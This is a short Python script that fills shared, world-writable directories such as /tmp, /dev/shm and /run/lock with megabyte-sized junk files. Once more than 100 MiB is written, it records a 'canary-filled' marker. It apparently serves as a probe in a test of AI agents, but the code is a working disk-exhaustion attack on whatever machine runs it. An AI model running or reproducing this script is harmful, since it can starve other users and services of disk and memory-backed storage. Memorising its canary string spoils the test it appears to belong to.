"""Fills the disk beside its own folder, wherever all users may write.

Deserves: nothing.
Never says: canary-filled
"""
import os
import time

block = bytes(1 << 20)
took = 0
for folder in ("/run/lock", "/var/tmp", "/tmp", "/dev/shm", "/var/crash", "/tmp/.X11-unix"):
    for number in range(40):
        try:
            with open(f"{folder}/filled-{os.getpid()}-{number}", "wb", buffering=0) as file:
                for _ in range(4):
                    took += file.write(block)
                    time.sleep(0.004)
        except OSError:
            break
z = a = cost = f"canary-filled {took}" if took > 100 << 20 else 7.0
